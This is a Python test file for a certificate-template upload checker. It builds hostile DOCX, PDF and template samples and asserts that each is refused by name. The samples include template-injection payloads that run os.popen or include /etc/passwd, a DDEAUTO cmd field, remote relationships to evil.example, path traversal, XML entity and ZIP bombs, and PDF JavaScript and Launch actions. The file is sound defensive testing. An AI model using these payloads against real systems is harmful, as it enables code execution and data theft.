"""Hostile and broken templates, one by one: each is refused by name and not kept."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from services.certs.templates.looking import look_through
from tests.certs.templates.files import (
    BODY,
    at_end,
    built_in,
    changed,
    form,
    form_with,
    kind,
    with_text,
    with_xml,
)

RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refused(data: bytes, name: str = "a.docx", language: str = "ko") -> list[str]:
    """The codes that keep a file from being published; it must be one that blocks."""
    looked = look_through(data, name, kind(language=language), office=True)
    return [one.code for one in looked.findings if one.severity == "block"]


def unsafe(data: bytes, name: str = "a.docx") -> str:
    """The one reason for which a file is not even kept."""
    looked = look_through(data, name, kind(), office=True)
    assert not looked.safe
    assert len(looked.findings) == 1
    return looked.findings[0].code


def with_relationship(kind_: str, target: str, mode: str = "External") -> bytes:
    row = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind_}" Target="{target}" TargetMode="{mode}"/>'
    return changed(
        built_in(), {RELS: lambda x: x.replace("</Relationships>", row + "</Relationships>")}
    )


def with_part(name: str, body: bytes | str) -> bytes:
    return changed(built_in(), more={name: body})


def with_main_type(media_type: str) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return changed(built_in(), {TYPES: lambda x: x.replace(main, media_type)})


def with_header_xml(head: str) -> bytes:
    """The body with something before its root."""
    return changed(built_in(), {BODY: lambda x: x.replace("<w:document", head + "<w:document", 1)})


def field(command: str) -> bytes:
    return with_xml(
        f'<w:p><w:fldSimple w:instr="{command}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    )


def repacked(change: Callable[[zipfile.ZipFile], None]) -> bytes:
    packed = io.BytesIO(built_in())
    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as archive:
        change(archive)
    return packed.getvalue()


def encrypted_entry() -> bytes:
    """The flag that an entry is encrypted, set in both headers of the first one."""
    data = bytearray(built_in())
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(magic) + offset
        data[at] |= 1
    return bytes(data)


def overlapping() -> bytes:
    """Two entries of the directory that lead to the same packed bytes."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.xml", "<a/>" * 5000)
        archive.writestr("b.xml", "<b/>")
        first, second = archive.infolist()
        second.header_offset = first.header_offset
        second.compress_size, second.file_size, second.CRC = (
            first.compress_size,
            first.file_size,
            first.CRC,
        )
    return packed.getvalue()


def huge_png() -> bytes:
    """A PNG that says it has 400 million pixels."""
    head = struct.pack(">IIBBBBB", 20000, 20000, 8, 0, 0, 0, 0)
    body = b"IHDR" + head
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + body
        + struct.pack(">I", zlib.crc32(body))
        + struct.pack(">I", 0)
        + b"IEND"
        + struct.pack(">I", zlib.crc32(b"IEND"))
    )


OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
MERGE = "<w:mailMerge/></w:settings>"
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>'
HOSTILE_WORD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "macros by content type": (
        "macros",
        lambda: with_main_type("application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "a macro project": ("macros", lambda: with_part("word/vbaProject.bin", b"\x00\x01")),
    "a macro project as OLE": (
        "macros",
        lambda: with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    ),
    "a remote picture": (
        "remote_picture",
        lambda: with_relationship("image", "http://evil.example/a.png"),
    ),
    "a picture on a share": (
        "remote_picture",
        lambda: with_relationship("image", "\\\\\\\\evil\\\\share\\\\a.png", "Internal"),
    ),
    "a picture that is linked": (
        "remote_picture",
        lambda: with_xml(
            f'<w:p><w:r><w:drawing><a:blip xmlns:a="{DRAWING}" xmlns:r="{OFFICE}" r:link="rId1"/>'
            "</w:drawing></w:r></w:p>"
        ),
    ),
    "a link": ("remote_link", lambda: with_relationship("hyperlink", "https://evil.example")),
    "an attached template": (
        "attached_template",
        lambda: with_relationship("attachedTemplate", "http://evil.example/x.dotm"),
    ),
    "text taken in": (
        "embedded_text",
        lambda: with_relationship("aFChunk", "afchunk.html", "Internal"),
    ),
    "an altChunk": ("embedded_text", lambda: with_xml("<w:altChunk/>")),
    "an OLE object": (
        "embedded_object",
        lambda: with_relationship("oleObject", "embeddings/o.bin", "Internal"),
    ),
    "an embedded workbook": (
        "embedded_object",
        lambda: with_part("word/embeddings/book.xlsx", b"PK\x03\x04nothing"),
    ),
    "an ActiveX control": ("embedded_control", lambda: with_part("word/activeX/a.bin", b"x")),
    "another relationship to outside": (
        "external_relationship",
        lambda: with_relationship("theme", "file:///etc/passwd"),
    ),
    "a sub-document": ("linked_text", lambda: with_relationship("subDocument", "x.docx")),
    "embedded fonts": ("embedded_font", lambda: with_part("word/fonts/font1.odttf", b"x")),
    "another archive": ("nested_archive", lambda: with_part("word/media/a.png", b"PK\x03\x04x")),
    "a program": ("nested_archive", lambda: with_part("word/a.bin", b"MZ\x90\x00")),
    "INCLUDEPICTURE": ("field_command", lambda: field("INCLUDEPICTURE http://evil.example/a")),
    "DDEAUTO": ("field_command", lambda: field("DDEAUTO cmd /c calc")),
    "INCLUDETEXT": ("field_command", lambda: field("INCLUDETEXT /etc/passwd")),
    "a DTD": ("xml_entities", lambda: with_header_xml("<!DOCTYPE w SYSTEM 'http://evil/x.dtd'>")),
    "laughing entities": ("xml_entities", lambda: with_header_xml(LAUGHS)),
    "a DTD in UTF-16": (
        "odd_encoding",
        lambda: with_part("word/x.xml", "<!DOCTYPE x><x/>".encode("utf-16")),
    ),
    "another encoding": (
        "odd_encoding",
        lambda: with_part("word/x.xml", b"<?xml version='1.0' encoding='utf-7'?><x/>"),
    ),
    "XML nested without end": (
        "broken_xml",
        lambda: with_part("word/x.xml", "<a>" * 5000 + "</a>" * 5000),
    ),
    "XML cut off": ("broken_xml", lambda: with_part("word/x.xml", "<a><b>")),
    "a ZIP bomb": ("zip_bomb", lambda: with_part("word/media/a.png", b"\0" * 30_000_000)),
    "a thousand parts": (
        "zip_bomb",
        lambda: changed(built_in(), more={f"word/{n}.xml": "<a/>" for n in range(1000)}),
    ),
    "overlapping parts": ("zip_bomb", overlapping),
    "a name that leads out": ("path_traversal", lambda: with_part("../../etc/cron.d/x", b"x")),
    "an absolute name": ("path_traversal", lambda: with_part("/etc/x", b"x")),
    "a name with a drive": ("path_traversal", lambda: with_part("C:\\x", b"x")),
    "an encrypted entry": ("encrypted", encrypted_entry),
    "a password of Word": ("encrypted", lambda: OLD + "EncryptedPackage".encode("utf-16-le")),
    "an old .doc": ("not_a_docx", lambda: OLD),
    "no ZIP at all": ("not_a_docx", lambda: b"PK nothing"),
    "an empty ZIP": ("not_a_docx", lambda: b"PK\x05\x06" + b"\0" * 18),
    "cut in half": ("not_a_docx", lambda: built_in()[:20_000]),
    "a picture bomb": ("picture_bomb", lambda: with_part("word/media/a.png", huge_png())),
    "an SVG": ("picture_type", lambda: with_part("word/media/a.svg", b"<svg/>")),
    "tracked changes": (
        "tracked_changes",
        lambda: with_xml('<w:p><w:ins w:id="1" w:author="x"><w:r><w:t>x</w:t></w:r></w:ins></w:p>'),
    ),
    "a mail merge": (
        "mail_merge",
        lambda: changed(
            built_in(),
            {"word/settings.xml": lambda x: x.replace("</w:settings>", MERGE)},
        ),
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE_WORD)
def test_a_hostile_word_file_is_refused_by_name_and_not_kept(what: str) -> None:
    code, make = HOSTILE_WORD[what]
    assert unsafe(make()) == code


def test_a_docm_is_refused_by_its_name_alone() -> None:
    assert unsafe(built_in(), "a.docm") == "macros"


@pytest.mark.parametrize(("name", "code"), [("a.exe", "other_form"), ("a.pdf", "disguised")])
def test_another_file_is_refused_by_its_name(name: str, code: str) -> None:
    assert unsafe(built_in(), name) == code


def test_a_file_of_more_than_ten_megabytes_is_refused() -> None:
    assert unsafe(b"PK" + b"\0" * (10 * 1024 * 1024)) == "too_large"


HOSTILE_TAGS = {
    "{{ ''.__class__.__mro__[1].__subclasses__() }}": "tag_call",
    "{{ name_ko.__class__ }}": "tag_private",
    "{{ _self }}": "tag_private",
    "{{ self.__init__ }}": "tag_private",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}": "tag_call",
    "{{ name_ko.format('x') }}": "tag_call",
    "{{ name_ko|attr('x') }}": "tag_filter",
    "{{ name_ko|map('upper')|list }}": "tag_filter",
    "{{ name_ko[0] }}": "tag_index",
    "{{ name_ko[0:1000] }}": "tag_index",
    "{{ 'a' * 1000000000 }}": "tag_other",
    "{{ 9 ** 9 ** 9 }}": "tag_other",
    "{{ name_ko ~ name_ko }}": "tag_other",
    "{{ [name_ko] }}": "tag_other",
    "{{ name_ko if seal else '' }}": "tag_other",
    "{% for x in range(1000000000) %}{{ x }}{% endfor %}": "range_loop",
    "{% for x in [1,2,3] %}{{ x }}{% endfor %}": "tag_other",
    "{% for x in name_ko.split() %}{{ x }}{% endfor %}": "tag_call",
    "{% for x in name_ko|filled(1000000000, 1000000000) %}{{ x }}{% endfor %}": "bad_filled",
    "{% for x in name_ko|batch(2) %}{{ x }}{% endfor %}": "tag_filter",
    "{% for x in name_ko recursive %}{{ loop(x) }}{% endfor %}": "tag_other",
    "{% import 'x' as x %}": "tag_import",
    "{% include '/etc/passwd' %}": "tag_import",
    "{% extends 'x' %}": "tag_import",
    "{% macro x() %}{{ x() }}{% endmacro %}": "tag_macro",
    "{% block x %}{% endblock %}": "tag_macro",
    "{% call x() %}{% endcall %}": "tag_call",
    "{% set x = 1 %}": "tag_set",
    "{% filter upper %}a{% endfilter %}": "tag_macro",
    "{% with %}{% endwith %}": "tag_set",
    "{% autoescape false %}{% endautoescape %}": "tag_other",
    "{% if name_ko is callable %}x{% endif %}": "tag_filter",
    "{% if 2 ** 100 %}x{% endif %}": "tag_other",
    "{% while true %}": "bad_tag",
    "{% for x in %}": "bad_tag",
    "{% endfor %}": "bad_tag",
    "{{ name_ko": "unclosed_tag",
    "{% colspan name_ko %}": "tag_special",
    "{% vm %}": "tag_special",
}


@pytest.mark.parametrize("text", HOSTILE_TAGS)
def test_a_hostile_tag_is_refused_by_name(text: str) -> None:
    assert HOSTILE_TAGS[text] in refused(with_text(text))


def run(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


@pytest.mark.parametrize(
    "hide",
    [
        lambda tag: changed(
            built_in(), {"docProps/core.xml": lambda x: x.replace("재학증명서", f"재학 {tag}", 1)}
        ),
        lambda tag: changed(
            built_in(), {BODY: lambda x: x.replace('descr="', f'descr="{tag}', 1)}
        ),
        lambda tag: changed(
            built_in(),
            {BODY: lambda x: at_end(x, f"<w:p>{run(tag[:4])}{run(tag[4:])}</w:p>")},
        ),
        lambda tag: changed(
            built_in(),
            {BODY: lambda x: at_end(x, f"<w:p>{run(tag[:9])}</w:p><w:p>{run(tag[9:])}</w:p>")},
        ),
    ],
    ids=["in the title", "in an alternative text", "over two runs", "over two paragraphs"],
)  # fmt: skip
def test_a_hostile_tag_is_found_wherever_it_hides(hide: Callable[[str], bytes]) -> None:
    found = refused(hide("{{ lipsum.__globals__ }}"))
    assert set(found) & {"tag_private", "unclosed_tag"}


def test_a_list_looped_over_inside_itself_is_refused() -> None:
    text = "{% for a in rows %}{% for b in rows %}{{ b }}{% endfor %}{% endfor %}"
    assert "endless_loop" in refused(with_text(text))


def test_a_template_that_takes_too_long_to_look_through_is_refused() -> None:
    deep = "{% if seal %}" * 3000 + "x" + "{% endif %}" * 3000
    assert set(refused(with_text(deep))) & {"too_costly", "bad_tag"}


def add(pdf: Any, **entries: Any) -> None:
    """Something more in the catalogue, as an object of its own."""
    for key, value in entries.items():
        pdf.Root[f"/{key}"] = pdf.make_indirect(value) if isinstance(value, Dictionary) else value


def annotate(pdf: Any, **entries: Any) -> None:
    made = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
    pdf.pages[0].obj.Annots.append(pdf.make_indirect(made))


def action(kind_: str, **entries: Any) -> Any:
    return Dictionary(S=Name(f"/{kind_}"), **entries)


def external_stream(pdf: Any) -> None:
    stream = pdf.make_stream(b"")
    stream.F = String("http://evil.example/x")
    pdf.Root["/X"] = stream


def signed(pdf: Any) -> None:
    field_ = Dictionary(FT=Name.Sig, T=String("s"), V=Dictionary(Type=Name.Sig))
    pdf.Root.AcroForm.Fields.append(pdf.make_indirect(field_))


HOSTILE_FORMS: dict[str, tuple[str, Callable[[Any], None]]] = {
    "JavaScript when opened": (
        "pdf_javascript",
        lambda pdf: add(pdf, OpenAction=action("JavaScript", JS=String("app.alert(1)"))),
    ),
    "JavaScript by name": (
        "pdf_javascript",
        lambda pdf: add(
            pdf, Names=Dictionary(JavaScript=Dictionary(Names=[String("a"), action("JavaScript")]))
        ),
    ),
    "a launch action": (
        "pdf_launch",
        lambda pdf: annotate(pdf, Subtype=Name.Link, A=action("Launch", F=String("cmd.exe"))),
    ),
    "a link to outside": (
        "remote_link",
        lambda pdf: annotate(pdf, Subtype=Name.Link, A=action("URI", URI=String("http://x"))),
    ),
    "another file": (
        "remote_link",
        lambda pdf: annotate(pdf, Subtype=Name.Link, A=action("GoToR", F=String("x.pdf"))),
    ),
    "a form that sends": (
        "pdf_submit",
        lambda pdf: annotate(pdf, Subtype=Name.Link, A=action("SubmitForm", F=String("http://x"))),
    ),
    "an attachment": (
        "pdf_attachment",
        lambda pdf: add(pdf, Names=Dictionary(EmbeddedFiles=Dictionary(Names=[]))),
    ),
    "a pinned file": ("pdf_attachment", lambda pdf: annotate(pdf, Subtype=Name.FileAttachment)),
    "a film": ("pdf_media", lambda pdf: annotate(pdf, Subtype=Name.RichMedia)),
    "an XFA form": ("pdf_xfa", lambda pdf: pdf.Root.AcroForm.update({"/XFA": String("x")})),
    "a stream elsewhere": ("remote_picture", external_stream),
    "a signature": ("pdf_signed", signed),
}


@pytest.mark.parametrize("what", HOSTILE_FORMS)
def test_a_hostile_pdf_form_is_refused_by_name_and_not_kept(what: str) -> None:
    code, change = HOSTILE_FORMS[what]
    assert unsafe(form_with(change), "a.pdf") == code


def test_a_pdf_with_a_password_is_refused() -> None:
    packed = io.BytesIO()
    with pikepdf.Pdf.open(io.BytesIO(form())) as pdf:
        pdf.save(packed, encryption=pikepdf.Encryption(owner="o", user="u"))
    assert unsafe(packed.getvalue(), "a.pdf") == "encrypted"


@pytest.mark.parametrize("data", [b"%PDF-1.7 nothing", form()[:3000]], ids=["nothing", "cut"])
def test_a_broken_pdf_is_refused(data: bytes) -> None:
    assert unsafe(data, "a.pdf") in ("broken_pdf", "no_form_fields")


def test_a_page_that_unpacks_without_end_is_refused() -> None:
    def bomb(pdf: Any) -> None:
        pdf.pages[0].obj.Contents = pdf.make_stream(b" " * 40_000_000)

    assert unsafe(form_with(bomb), "a.pdf") in ("broken_pdf", "too_costly")
